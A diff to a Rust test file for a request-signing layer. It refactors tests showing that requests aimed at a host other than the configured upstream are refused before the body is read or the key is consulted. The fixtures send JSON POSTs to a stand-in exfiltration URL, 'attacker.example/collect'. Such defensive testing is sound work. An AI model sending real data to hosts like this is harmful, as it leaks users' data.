@@ -3,16 +3,16 @@
 //! that go to an upstream it was built with. Each test quotes the statement it proves.
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
+mod common;
+
 use std::convert::Infallible;
 use std::net::SocketAddr;
-use std::pin::Pin;
-use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::atomic::Ordering;
 use std::sync::{Arc, Mutex};
-use std::task::{Context, Poll};
 
 use bytes::Bytes;
 use http::{HeaderValue, Request, Response, header};
-use http_body::{Body, Frame};
+use http_body::Body;
 use http_body_util::Full;
 use hyper_util::client::legacy::Client;
 use hyper_util::rt::TokioExecutor;
@@ -22,6 +22,8 @@ use tokio::sync::mpsc;
 use tollgate_core::{BoxError, BufferedBody, Key, KeyRing, ManualClock, Secret, Upstream};
 use tollgate_signature::{BodyHmac, Canonical, Scheme, SignError, SignRequestLayer};
 use tower::{ServiceBuilder, ServiceExt, service_fn};
+
+use common::Chunks;
 
 const SECRET: &str = "cashout_secret_key";
 const T: u64 = 1_700_000_000;
@@ -38,7 +40,9 @@ fn provider() -> Upstream {
 
 /// The layer under test, configured for `https://api.onekey.example` only.
 fn signing(scheme: impl Scheme) -> SignRequestLayer {
-    SignRequestLayer::new(scheme, ring(), provider()).clock(ManualClock::new(T))
+    SignRequestLayer::new(scheme, ring(), provider())
+        .unwrap()
+        .clock(ManualClock::new(T))
 }
 
 /// The `SignError` inside a boxed error.
@@ -234,34 +238,12 @@ async fn a_host_header_that_disagrees_or_repeats_is_refused() {
     }
 }
 
-/// A body that counts how often it is polled.
-struct CountingBody {
-    polls: Arc<AtomicUsize>,
-    data: Option<Bytes>,
-}
-
-impl Body for CountingBody {
-    type Data = Bytes;
-    type Error = Infallible;
-
-    fn poll_frame(
-        mut self: Pin<&mut Self>,
-        _cx: &mut Context<'_>,
-    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
-        self.polls.fetch_add(1, Ordering::SeqCst);
-        Poll::Ready(self.data.take().map(|data| Ok(Frame::data(data))))
-    }
-}
-
 /// Security considerations, pinning, 3: "The check runs in `call`, before the body is read, the
 /// signing key is looked up or anything is signed."
 #[tokio::test]
 async fn the_check_comes_before_the_body_and_the_key() {
-    let polls = Arc::new(AtomicUsize::new(0));
-    let body = CountingBody {
-        polls: Arc::clone(&polls),
-        data: Some(Bytes::from_static(JSON)),
-    };
+    let body = Chunks::new(&[JSON]);
+    let polls = body.polls();
     let request = json_post("https://attacker.example/collect")
         .body(body)
         .unwrap();
@@ -272,8 +254,9 @@ async fn the_check_comes_before_the_body_and_the_key() {
 
     // An expired key is not even looked at: the refusal names the target, not the key.
     let expired = KeyRing::new(Key::new("2026-08", Secret::from_string(SECRET)).not_after(T - 1));
-    let layer =
-        SignRequestLayer::new(BodyHmac::onekey(), expired, provider()).clock(ManualClock::new(T));
+    let layer = SignRequestLayer::new(BodyHmac::onekey(), expired, provider())
+        .unwrap()
+        .clock(ManualClock::new(T));
     let request = json_post("https://attacker.example/collect")
         .body(Full::new(Bytes::from_static(JSON)))
         .unwrap();
